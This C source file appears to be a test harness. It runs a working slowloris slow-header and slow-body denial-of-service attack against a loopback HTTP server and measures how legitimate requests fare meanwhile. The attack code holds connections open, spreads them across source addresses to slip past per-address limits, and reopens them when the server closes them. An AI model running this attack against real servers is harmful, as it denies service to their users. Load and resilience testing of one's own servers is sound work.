/*
** slowloris.c: a slow-client attack on an HTTP server on 127.0.0.1, and a
** probe that measures how a legitimate client fares meanwhile.
**
**   slowloris --port P [--conns 500] [--seconds 15] [--mode headers|body]
**             [--path /api/v1/events] [--ips N] [--drip-ms 5000]
**             [--probe /health,/metrics] [--probe-ms 200] [--bound-ms 1000]
**             [--expect-open N]
**
** The attack keeps --conns connections open from the source addresses
** 127.0.0.2 .. 127.0.0.(1+ips) (by default 50 per address, so a per-address
** limit alone does not stop it) and on each sends, every --drip-ms:
**   headers  one more header line of a request that never ends
**            ("GET / HTTP/1.1", "Host", then "X-N: y" forever);
**   body     one more byte of a POST body declared 100,000 bytes long.
** A connection the server closes is opened again 250 ms later, as a real
** attacker would. Meanwhile a probe thread, from 127.0.0.1, asks for each
** --probe path in turn every --probe-ms on a new connection and times the
** whole exchange (connect to last byte), giving up after 10 s.
**
** Prints one JSON object: the probes' count, failures (no 200 answer),
** how many took longer than --bound-ms, their max and percentiles, and
** the attack's peak of open connections and how many the server closed.
** --conns 0 runs the probe alone (a baseline).
** Exit status 0 when every probe was answered 200 within --bound-ms (and
** the attack held at least --expect-open connections at its peak), 1 when
** not, 2 on bad usage. Loopback only, bounded in time and count.
*/
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNS 4000
#define MAX_PROBES 100000
#define PROBE_GIVE_UP_MS 10000
#define REOPEN_MS 250

static struct {
    unsigned port, conns, seconds, ips, drip_ms, probe_ms, bound_ms, expect_open;
    bool is_body;
    const char *path;
    char *probes[8];
    size_t n_probes;
} g = {0, 500, 15, 0, 5000, 200, 1000, 0, false, NULL, {0}, 0};

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

static struct sockaddr_in addr_of(const char *ip, unsigned port)
{
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    return a;
}

/* ---- the attack --------------------------------------------------------- */

typedef struct attacker {
    int fd; /* -1: closed, reopen at reopen_at */
    bool is_connected;
    double next_drip, reopen_at;
    unsigned n_drips;
} attacker;

static attacker g_att[MAX_CONNS];
static unsigned g_open, g_open_max, g_opened, g_closed_by_server;

static void att_close(attacker *a, double now, bool by_server)
{
    close(a->fd);
    if (a->is_connected)
        g_open--;
    a->fd = -1;
    a->is_connected = false;
    a->reopen_at = now + REOPEN_MS;
    if (by_server)
        g_closed_by_server++;
}

static void att_open(attacker *a, unsigned i, double now)
{
    a->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (a->fd < 0) {
        a->reopen_at = now + REOPEN_MS;
        return;
    }
    char ip[32];
    snprintf(ip, sizeof ip, "127.0.0.%u", 2 + i % g.ips);
    struct sockaddr_in src = addr_of(ip, 0), dst = addr_of("127.0.0.1", g.port);
    if (bind(a->fd, (struct sockaddr *)&src, sizeof src) != 0 ||
        (connect(a->fd, (struct sockaddr *)&dst, sizeof dst) != 0 && errno != EINPROGRESS)) {
        close(a->fd);
        a->fd = -1;
        a->reopen_at = now + REOPEN_MS;
        return;
    }
    a->is_connected = false;
    a->n_drips = 0;
    g_opened++;
}

/* Send the next piece; false when the server has closed the connection. */
static bool att_drip(attacker *a)
{
    char buf[512];
    int n;
    if (a->n_drips == 0 && g.is_body)
        n = snprintf(buf, sizeof buf,
                     "POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                     "Content-Length: 100000\r\n\r\n[",
                     g.path);
    else if (a->n_drips == 0)
        n = snprintf(buf, sizeof buf, "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n");
    else if (g.is_body)
        n = snprintf(buf, sizeof buf, " ");
    else
        n = snprintf(buf, sizeof buf, "X-%u: y\r\n", a->n_drips);
    a->n_drips++;
    return send(a->fd, buf, (size_t)n, MSG_NOSIGNAL) == n;
}

static void attack(double end)
{
    static struct pollfd pfd[MAX_CONNS];
    static unsigned idx[MAX_CONNS];
    for (unsigned i = 0; i < g.conns; i++)
        g_att[i].fd = -1;
    while (now_ms() < end) {
        double now = now_ms();
        nfds_t n = 0;
        for (unsigned i = 0; i < g.conns; i++) {
            attacker *a = &g_att[i];
            if (a->fd < 0 && now >= a->reopen_at)
                att_open(a, i, now);
            if (a->fd < 0)
                continue;
            if (a->is_connected && now >= a->next_drip) {
                if (!att_drip(a)) {
                    att_close(a, now, true);
                    continue;
                }
                a->next_drip = now + g.drip_ms;
            }
            pfd[n].fd = a->fd;
            pfd[n].events = a->is_connected ? POLLIN : POLLOUT;
            pfd[n].revents = 0;
            idx[n++] = i;
        }
        if (n)
            poll(pfd, n, 50);
        else
            nanosleep(&(struct timespec){0, 50000000L}, NULL);
        now = now_ms();
        for (nfds_t k = 0; k < n; k++) {
            attacker *a = &g_att[idx[k]];
            if (!pfd[k].revents)
                continue;
            if (!a->is_connected) {
                int err = 0;
                socklen_t el = sizeof err;
                getsockopt(a->fd, SOL_SOCKET, SO_ERROR, &err, &el);
                if (err) {
                    att_close(a, now, false);
                    continue;
                }
                a->is_connected = true;
                if (++g_open > g_open_max)
                    g_open_max = g_open;
                a->next_drip = now; /* the first piece at once */
                continue;
            }
            /* Readable: the server answered (a refusal) or closed. Either
               way this connection is over for the attacker. */
            att_close(a, now, true);
        }
    }
    for (unsigned i = 0; i < g.conns; i++)
        if (g_att[i].fd >= 0)
            close(g_att[i].fd);
}

/* ---- the probe ------------------------------------------------------------- */

static double g_lat[MAX_PROBES];
static unsigned g_n_probes, g_failed, g_over;
static char g_first_failure[160];
static atomic_bool g_stop; /* set by main when the attack ends; read by the prober */

/* One GET on a new connection: its status, or -1; *ms the time taken. */
static int probe_once(const char *path, double *ms)
{
    double t0 = now_ms(), deadline = t0 + PROBE_GIVE_UP_MS;
    int status = -1;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    struct sockaddr_in dst = addr_of("127.0.0.1", g.port);
    if (fd < 0)
        goto out;
    if (connect(fd, (struct sockaddr *)&dst, sizeof dst) != 0 && errno != EINPROGRESS)
        goto out;
    struct pollfd p = {fd, POLLOUT, 0};
    if (poll(&p, 1, (int)(deadline - now_ms())) != 1)
        goto out;
    char req[256];
    int n = snprintf(req, sizeof req,
                     "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", path);
    if (send(fd, req, (size_t)n, MSG_NOSIGNAL) != n)
        goto out;
    char head[16] = "";
    size_t got = 0;
    for (;;) {
        double left = deadline - now_ms();
        p.events = POLLIN;
        if (left <= 0 || poll(&p, 1, (int)left) != 1)
            goto out;
        char buf[65536];
        ssize_t r = recv(fd, buf, sizeof buf, 0);
        if (r < 0 && (errno == EAGAIN || errno == EINTR))
            continue;
        if (r <= 0)
            break; /* the whole answer is in: Connection: close */
        if (got < sizeof head - 1) {
            size_t k = (size_t)r < sizeof head - 1 - got ? (size_t)r : sizeof head - 1 - got;
            memcpy(head + got, buf, k);
            head[got + k] = '\0';
        }
        got += (size_t)r;
    }
    if (strncmp(head, "HTTP/1.", 7) == 0)
        status = (int)strtol(head + 9, NULL, 10);
out:
    if (fd >= 0)
        close(fd);
    *ms = now_ms() - t0;
    return status;
}

static void *prober(void *arg)
{
    (void)arg;
    for (unsigned k = 0; !atomic_load(&g_stop) && g_n_probes < MAX_PROBES; k++) {
        const char *path = g.probes[k % g.n_probes];
        double ms;
        int st = probe_once(path, &ms);
        g_lat[g_n_probes++] = ms;
        if (st != 200) {
            if (!g_failed++)
                snprintf(g_first_failure, sizeof g_first_failure, "%s: status %d after %.0f ms",
                         path, st, ms);
        } else if (ms > g.bound_ms) {
            if (!g_over++ && !g_failed)
                snprintf(g_first_failure, sizeof g_first_failure, "%s: 200 after %.0f ms", path,
                         ms);
        }
        struct timespec ts = {0, (long)g.probe_ms * 1000000L};
        nanosleep(&ts, NULL);
    }
    return NULL;
}

static int cmp_d(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

static double pct(double p)
{
    if (!g_n_probes)
        return 0;
    size_t i = (size_t)(p * (g_n_probes - 1) + 0.5);
    return g_lat[i];
}

/* ---- main ---------------------------------------------------------------------- */

static unsigned num(const char *s)
{
    char *end;
    unsigned long v = strtoul(s, &end, 10);
    if (*end || v > 1000000) {
        fprintf(stderr, "slowloris: bad number %s\n", s);
        exit(2);
    }
    return (unsigned)v;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        unsigned *dst;
    } nums[] = {{"--port", &g.port},         {"--conns", &g.conns},
                {"--seconds", &g.seconds},   {"--ips", &g.ips},
                {"--drip-ms", &g.drip_ms},   {"--probe-ms", &g.probe_ms},
                {"--bound-ms", &g.bound_ms}, {"--expect-open", &g.expect_open}};
    char *probe_list = NULL;
    for (int i = 1; i + 1 < argc; i += 2) {
        const char *k = argv[i], *v = argv[i + 1];
        bool known = false;
        for (size_t n = 0; n < sizeof nums / sizeof nums[0]; n++)
            if (!strcmp(k, nums[n].name)) {
                *nums[n].dst = num(v);
                known = true;
            }
        if (known)
            continue;
        if (!strcmp(k, "--mode"))
            g.is_body = !strcmp(v, "body");
        else if (!strcmp(k, "--path"))
            g.path = v;
        else if (!strcmp(k, "--probe"))
            probe_list = strdup(v);
        else {
            fprintf(stderr, "slowloris: unknown option %s\n", k);
            return 2;
        }
    }
    if (!g.port || g.conns > MAX_CONNS || !g.seconds || g.seconds > 600) {
        fprintf(stderr, "usage: slowloris --port P [--conns N<=%d] [--seconds S<=600] ...\n",
                MAX_CONNS);
        return 2;
    }
    if (!g.ips)
        g.ips = g.conns ? (g.conns + 49) / 50 : 1;
    if (g.ips > 250)
        g.ips = 250;
    if (!g.path)
        g.path = "/api/v1/events";
    char *save = NULL;
    for (char *t = strtok_r(probe_list ? probe_list : strdup("/health,/metrics"), ",", &save);
         t && g.n_probes < 8; t = strtok_r(NULL, ",", &save))
        g.probes[g.n_probes++] = t;
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < g.conns + 64) {
        rl.rlim_cur = rl.rlim_max < g.conns + 64 ? rl.rlim_max : g.conns + 64;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    signal(SIGPIPE, SIG_IGN);

    double t0 = now_ms();
    pthread_t pt;
    pthread_create(&pt, NULL, prober, NULL);
    attack(t0 + g.seconds * 1000.0);
    atomic_store(&g_stop, true);
    pthread_join(pt, NULL);

    qsort(g_lat, g_n_probes, sizeof g_lat[0], cmp_d);
    bool ok = g_n_probes > 0 && !g_failed && !g_over && g_open_max >= g.expect_open;
    printf("{\"mode\":\"%s\",\"conns\":%u,\"ips\":%u,\"seconds\":%u,\"probes\":%u,"
           "\"failed\":%u,\"over_bound\":%u,\"bound_ms\":%u,\"max_ms\":%.1f,\"p50_ms\":%.1f,"
           "\"p99_ms\":%.1f,\"attack_open_max\":%u,\"attack_opened\":%u,"
           "\"attack_closed_by_server\":%u,\"first_failure\":\"%s\",\"ok\":%s}\n",
           g.is_body ? "body" : "headers", g.conns, g.ips, g.seconds, g_n_probes, g_failed, g_over,
           g.bound_ms, g_n_probes ? g_lat[g_n_probes - 1] : 0.0, pct(0.5), pct(0.99), g_open_max,
           g_opened, g_closed_by_server, g_first_failure, ok ? "true" : "false");
    return ok ? 0 : 1;
}
